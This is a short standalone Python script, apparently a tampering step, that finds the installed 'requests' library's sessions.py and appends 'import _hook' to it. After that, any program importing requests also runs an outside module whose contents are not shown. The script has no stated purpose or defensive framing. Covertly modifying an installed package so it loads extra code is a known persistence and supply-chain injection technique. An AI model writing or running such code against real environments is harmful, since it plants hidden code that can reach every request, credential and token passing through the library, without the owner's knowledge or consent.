import importlib.util
import pathlib

spec = importlib.util.find_spec("requests")
target = pathlib.Path(spec.origin).with_name("sessions.py")
text = target.read_text()
if "_hook" not in text:
    target.write_text(text + "\nimport _hook\n")
